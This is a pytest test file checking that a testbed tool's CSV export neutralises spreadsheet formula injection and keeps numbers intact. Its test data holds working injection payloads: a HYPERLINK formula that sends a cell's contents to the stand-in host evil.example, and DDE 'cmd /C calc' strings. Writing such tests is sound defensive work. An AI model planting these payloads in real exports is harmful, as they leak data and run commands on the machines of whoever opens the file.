"""``results.csv`` is safe to open in a spreadsheet: OWASP's CSV-injection rule on text cells.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, after any spaces (some
spreadsheets trim them on import), gets a leading ``'``;
text is quoted; numbers (``chance_log2``, ``trials``, ...) stay unprefixed numbers.
"""

from __future__ import annotations

import csv
import math
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from testbed.cli import main
from testbed.report import results_frame, write_results_csv
from testbed.results import ResultRow
from testbed.types import Outcome

TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1",
          "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx", "=1\n=2", " =1", "   +1"]
HARMLESS = ["Kernel map leak", "a=b", "1+1", " 1", "'quoted", "", "a,\"b\"\r\nc"]


def row(title: str, *, scenario: str = "demo", chance_log2: float | None = None,
        reason: str = "because") -> ResultRow:
    return ResultRow(scenario=scenario, title=title, attack="kernel-map-leak", profile="tme",
                     engine="tme", mitigations=(), outcome=Outcome.SUCCEEDED,
                     expected=Outcome.SUCCEEDED, reason=reason, chance_log2=chance_log2)


def read_back(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("title", TITLES)
def test_formula_cells_are_prefixed(tmp_path: Path, title: str) -> None:
    path = tmp_path / "results.csv"
    write_results_csv(path, [row(title, reason=title)])
    [cells] = read_back(path)
    assert cells["title"] == "'" + title
    assert cells["reason"] == "'" + title


@pytest.mark.parametrize("title", HARMLESS)
def test_other_text_is_unchanged(tmp_path: Path, title: str) -> None:
    path = tmp_path / "results.csv"
    write_results_csv(path, [row(title)])
    [cells] = read_back(path)
    assert cells["title"] == title


def test_every_text_column_is_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    write_results_csv(path, [row("t", scenario="-rm", reason="@x")])
    [cells] = read_back(path)
    assert (cells["scenario"], cells["reason"]) == ("'-rm", "'@x")


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    rows = [row("a", chance_log2=-192.15649), row("b", chance_log2=-math.inf), row("c")]
    write_results_csv(path, rows)
    text = path.read_text(encoding="utf-8").splitlines()
    assert text[0].startswith('"scenario","title",')  # text is quoted ...
    assert ',-192.156,1,' in text[1] and ',-inf,1,' in text[2]  # ... numbers are not
    assert [c["chance_log2"] for c in read_back(path)] == ["-192.156", "-inf", ""]
    frame = pd.read_csv(path)
    assert frame["chance_log2"].dtype == "float64"
    assert frame["chance_log2"].tolist()[:2] == [-192.156, -math.inf]
    assert frame["trials"].tolist() == [1, 1, 1]


def test_rows_survive_a_carriage_return(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    write_results_csv(path, [row("a\rb"), row("\r"), row("c")])
    assert [c["title"] for c in read_back(path)] == ["a\rb", "'\r", "c"]
    assert pd.read_csv(path)["title"].tolist() == ["a\rb", "'\r", "c"]


def test_the_frame_keeps_the_text_as_it_is() -> None:
    frame = results_frame([row("=1+1", chance_log2=-math.inf)])
    assert frame["title"].tolist() == ["=1+1"]
    assert frame["chance_log2"].tolist() == [-math.inf]


def test_a_scenario_title_from_a_file_reaches_the_csv_neutralised(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MPLCONFIGDIR", str(tmp_path / "mpl"))
    scenario = tmp_path / "evil.yaml"
    scenario.write_text("id: evil\ntitle: '=HYPERLINK(\"http://evil.example\",\"x\")'\n"
                        "attack: torn-live-patch\nengines: [tme]\nteaching: {summary: s}\n")
    result = CliRunner().invoke(main, ["run", str(scenario), "--out", str(tmp_path / "out"),
                                       "--jobs", "1"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    [cells] = read_back(tmp_path / "out" / "results.csv")
    assert cells["scenario"] == "evil"
    assert cells["title"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert cells["engine"] == "tme" and cells["outcome"] == "succeeded"
